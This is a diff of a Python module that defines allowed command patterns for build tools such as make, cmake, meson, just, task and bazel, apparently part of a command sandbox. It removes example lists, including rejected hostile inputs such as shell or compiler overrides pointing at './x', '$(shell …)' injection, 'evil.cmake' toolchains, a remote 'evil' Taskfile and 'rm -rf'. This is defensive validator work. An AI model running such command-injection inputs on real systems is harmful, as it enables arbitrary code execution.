@@ -34,29 +34,6 @@ _MAKE = Program(
     """,
     operands="TEXT...",
     refine=_make,
-    looks=("make --version", "make -v"),
-    covered=(
-        "make",
-        "make -j4 test",
-        "make -C sub -s lint",
-        "make -n install",
-        "make -f ci.mk all",
-        "make -kB build/a.o",
-    ),
-    not_covered=(
-        "make SHELL=./x",
-        "make test SHELL=./x",
-        "make -- SHELL=./x",
-        "make CC:=x",
-        "make --eval='$(shell touch x)'",
-        "make --ev=x",
-        "make -E x",
-        "make -f -",
-        "make -f- x",
-        "make -I /tmp",
-        "make '$(shell touch x)'",
-        "make -v x",
-    ),
 )
 
 # --- cmake
@@ -88,24 +65,6 @@ _CMAKE = Program(
         --graphviz=WRITE -P=SCRIPT -C=CODE -T=CODE --toolchain=CODE -E:gap --open=READ:gap
     """,
     refine=_cmake,
-    looks=("cmake --version",),
-    covered=(
-        "cmake -S . -B build -DCMAKE_BUILD_TYPE=Release -DBUILD_TESTING=ON -G Ninja",
-        "cmake ..",
-        "cmake --build build -j 4 --target test",
-        "cmake --build build --parallel",
-        "cmake -P a.cmake",
-    ),
-    not_covered=(
-        "cmake -DCMAKE_C_COMPILER=./x .",
-        "cmake -D CMAKE_CXX_COMPILER_LAUNCHER=./x -B b",
-        "cmake -DCMAKE_BUILD_TYPE='a b' .",
-        "cmake -E rm -rf x",
-        "cmake --build build -- SHELL=x",
-        "cmake -C evil.cmake .",
-        "cmake --toolchain evil.cmake .",
-        "cmake --toolch evil.cmake .",
-    ),
 )
 _CTEST = Program(
     act=Act.RUNS,
@@ -119,9 +78,6 @@ _CTEST = Program(
     """,
     operands="TEXT...",
     refine=names_only,
-    looks=("ctest --version",),
-    covered=("ctest --output-on-failure -j 8", "ctest --test-dir build -R parser -LE slow"),
-    not_covered=("ctest -S evil.cmake", "ctest -SP evil.cmake", "ctest --build-and-test a b", "ctest -D Experimental"),
 )
 _NINJA = Program(
     act=Act.RUNS,
@@ -132,9 +88,6 @@ _NINJA = Program(
     """,
     operands="TEXT...",
     refine=names_only,
-    looks=("ninja --version",),
-    covered=("ninja", "ninja -C build -j8 test", "ninja -n"),
-    not_covered=("ninja -t clean", "ninja -tbrowse", "ninja a=b"),
 )
 
 # --- meson
@@ -168,18 +121,6 @@ _MESON = Program(
         **dict.fromkeys(("compile", "test", "install", "introspect", "dist"), _MESON_BUILD),
         "configure": replace(_MESON_SETUP, operands="WRITE_TREE"),
     },
-    looks=("meson --version",),
-    covered=(
-        "meson setup build -Dbuildtype=debug -Dtests=true",
-        "meson compile -C build",
-        "meson test -C build --print-errorlogs",
-    ),
-    not_covered=(
-        "meson test --wrapper sh",
-        "meson setup b --native-file evil",
-        "meson setup b -Dc_args=-wrapper,sh",
-        "meson",
-    ),
 )
 
 # --- just, task, bazel
@@ -196,16 +137,6 @@ _JUST = Program(
     """,
     operands="TEXT...",
     refine=_RECIPES,
-    looks=("just --version",),
-    covered=("just", "just --list", "just test", "just build release src/a.c", "just -n lint"),
-    not_covered=(
-        "just --shell ./x test",
-        "just cc=./x test",
-        "just test '; touch x'",
-        "just -c sh",
-        "just --choose",
-        "just --set a b",
-    ),
 )
 _TASK = Program(
     act=Act.RUNS,
@@ -217,9 +148,6 @@ _TASK = Program(
     """,
     operands="TEXT...",
     refine=_RECIPES,
-    looks=("task --version",),
-    covered=("task", "task --list", "task build test:unit"),
-    not_covered=("task build CC=./x", "task -t https://evil/Taskfile.yml --insecure", "task -y build", "task -g x"),
 )
 # The launcher runs tools/bazel of the workspace, and bazelisk what .bazeliskrc names: also for `bazel --version`.
 _BAZEL_BUILD = Program(
@@ -244,17 +172,6 @@ _BAZEL = Program(
             "build test run query cquery aquery coverage info clean version fetch mod".split(), _BAZEL_BUILD
         ),
     },
-    covered=(
-        "bazel build //...",
-        "bazel test //a:b --test_output=errors",
-        "bazel --version",
-        "bazel query 'deps(//a)'",
-    ),
-    not_covered=(
-        "bazel --bazelrc=evil build //a",
-        "bazel run --run_under=./x //a",
-        "bazel build --action_env=CC=./x //a",
-    ),
 )
 
 PROGRAMS: Mapping[str, Program] = {
